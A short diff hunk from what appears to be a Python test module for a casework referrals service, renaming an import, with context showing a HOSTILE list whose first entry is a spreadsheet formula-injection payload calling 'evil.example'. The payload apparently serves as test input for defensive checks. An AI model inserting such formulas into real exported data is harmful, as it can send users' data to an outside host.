@@ -9,7 +9,7 @@ from service.casework.records import OFFICE
 from service.casework.referrals import intake
 from service.casework.referrals.context import Wanted
 
-from .a_desk import NOW, Office, case, response
+from .referral_office import NOW, Office, case, response
 
 HOSTILE = [
     '=IMPORTXML("https://evil.example","//x")',
